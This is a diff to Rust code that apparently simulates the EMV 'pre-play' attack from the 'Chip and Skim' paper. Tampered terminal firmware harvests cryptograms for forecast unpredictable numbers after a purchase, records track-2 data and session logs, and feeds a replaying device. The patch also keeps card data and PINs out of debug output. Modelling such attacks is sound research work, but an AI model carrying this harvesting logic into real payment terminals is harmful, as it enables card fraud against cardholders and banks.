@@ -1,7 +1,7 @@
 //! Pre-play (Bond, Choudary, Murdoch, Skorobogatov, Anderson: "Chip and
-//! Skim", IEEE S&P 2014). Tampered firmware in one terminal, while a chip
-//! card waits in it for the bank's answer, runs the card through more
-//! sessions of its own and asks each for a cryptogram over a future
+//! Skim", IEEE S&P 2014). Tampered firmware in one terminal, once a chip
+//! card's purchase is over but before the card leaves the slot, runs the
+//! card through more sessions of its own and asks each for a cryptogram over a future
 //! purchase: the amount the attacker will spend and an unpredictable number
 //! (9F37) another terminal is going to use. Where that terminal's numbers
 //! come from a counter they can be guessed, and a device that replays the
@@ -63,13 +63,27 @@ impl std::fmt::Debug for Preplayed {
 }
 
 /// Tampered terminal firmware that harvests cryptograms for a forecast.
-#[derive(Debug)]
 pub struct Harvester {
     owner: usize,
     forecast: Forecast,
     atr: Vec<u8>,
     session: Vec<(Vec<u8>, Vec<u8>)>,
+    /// The session's first GENERATE AC, kept until the second ends it.
+    first_ac: Option<Vec<u8>>,
     taken: Vec<Theft>,
+}
+
+impl std::fmt::Debug for Harvester {
+    // The session holds tag 57 and plaintext PINs: never printed.
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(
+            f,
+            "Harvester(attack {}, {} numbers forecast, {} taken)",
+            self.owner,
+            self.forecast.uns.len(),
+            self.taken.len()
+        )
+    }
 }
 
 impl Harvester {
@@ -80,6 +94,7 @@ impl Harvester {
             forecast: Forecast::default(),
             atr: Vec::new(),
             session: Vec::new(),
+            first_ac: None,
             taken: Vec::new(),
         }
     }
@@ -97,7 +112,9 @@ impl Harvester {
         card: &mut dyn CardChannel,
     ) -> Vec<([u8; 4], Vec<u8>, Vec<u8>)> {
         let Some(cdol1) = self.cdol1() else { return Vec::new() };
-        let (Some(amount_at), Some(un_at)) = (offset(&cdol1, 0x9F02), offset(&cdol1, 0x9F37))
+        // Only the layout this firmware knows: a 6-byte amount, a 4-byte UN.
+        let (Some((amount_at, 6)), Some((un_at, 4))) =
+            (offset(&cdol1, 0x9F02), offset(&cdol1, 0x9F37))
         else {
             return Vec::new();
         };
@@ -153,14 +170,14 @@ impl Harvester {
     }
 }
 
-/// Where a tag's value starts in data filled from `dol`.
-fn offset(dol: &Dol, tag: u32) -> Option<usize> {
-    let mut at = 0;
+/// Where a tag's value starts in data filled from `dol`, and its length.
+fn offset(dol: &Dol, tag: u32) -> Option<(usize, usize)> {
+    let mut at = 0usize;
     for &(t, len) in &dol.0 {
         if t == tag {
-            return Some(at);
+            return Some((at, len));
         }
-        at += len;
+        at = at.checked_add(len)?;
     }
     None
 }
@@ -187,6 +204,7 @@ impl CardTap for Harvester {
     fn power_on(&mut self, interface: Interface, card: &mut dyn CardChannel) -> Vec<u8> {
         let atr = card.power_on(interface);
         self.session.clear();
+        self.first_ac = None;
         self.atr = if interface == Interface::Contact { atr.clone() } else { Vec::new() };
         atr
     }
@@ -196,20 +214,27 @@ impl CardTap for Harvester {
         if self.atr.is_empty() {
             return rapdu;
         }
-        let first_ac = capdu.get(1) == Some(&ins::GENERATE_AC)
-            && capdu.get(2).is_some_and(|p1| p1 & 0xC0 == 0x80);
-        if !first_ac {
+        let ok = rapdu.ends_with(&[0x90, 0x00]);
+        if capdu.get(1) != Some(&ins::GENERATE_AC) {
             // A failed VERIFY is not replayed: it would cost the card a try.
-            let failed_pin = capdu.get(1) == Some(&ins::VERIFY) && !rapdu.ends_with(&[0x90, 0x00]);
-            if !failed_pin && capdu.get(1) != Some(&ins::GENERATE_AC) {
+            let failed_pin = capdu.get(1) == Some(&ins::VERIFY) && !ok;
+            if !failed_pin && self.first_ac.is_none() {
                 self.session.push((capdu.to_vec(), rapdu.clone()));
             }
             return rapdu;
         }
-        // The card's own cryptogram goes to the terminal untouched; while
-        // the terminal waits for the bank, the firmware makes its own.
-        if rapdu.ends_with(&[0x90, 0x00]) && !self.forecast.uns.is_empty() {
-            let cryptograms = self.harvest(capdu, card);
+        if capdu.get(2).is_some_and(|p1| p1 & 0xC0 == 0x80) {
+            // The card's own cryptogram goes to the terminal untouched.
+            self.first_ac = ok.then(|| capdu.to_vec());
+            return rapdu;
+        }
+        // The second GENERATE AC: the purchase is over, the card still in
+        // the slot. Now the firmware runs it through sessions of its own
+        // (their ATCs all above the one the bank just saw).
+        if let Some(first_ac) = self.first_ac.take()
+            && !self.forecast.uns.is_empty()
+        {
+            let cryptograms = self.harvest(&first_ac, card);
             if let (false, Some((pan, tag57))) = (cryptograms.is_empty(), self.track()) {
                 let recording = Preplayed {
                     atr: self.atr.clone(),
@@ -302,5 +327,31 @@ impl CardTap for Replayer {
 
     fn swipe(&mut self, _: &mut dyn CardChannel) -> Option<String> {
         None
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn the_firmware_and_its_recordings_never_print_card_data() {
+        let tag57 = b"\x57\x10\x47\x61\x73\x90\x01\x01\x01\x19\xD2\x51\x22\x01\x12\x34\x56\x7F";
+        let mut h = Harvester::new(0);
+        h.session.push((vec![0x00, 0xB2, 0x01, 0x0C, 0x00], [&tag57[..], &[0x90, 0x00]].concat()));
+        h.session.push((
+            b"\x00\x20\x00\x80\x08\x24\x12\x34\xFF\xFF\xFF\xFF\xFF".to_vec(),
+            vec![0x90, 0x00],
+        ));
+        let rec = Preplayed {
+            atr: vec![0x3B],
+            session: h.session.clone(),
+            cryptograms: vec![],
+            uns: vec![],
+        };
+        for shown in [format!("{h:?}"), format!("{rec:?}")] {
+            assert!(!shown.contains("4761739001010119") && !shown.contains("47617390"), "{shown}");
+            assert!(!shown.contains("1234"), "the PIN of the VERIFY: {shown}");
+        }
     }
 }
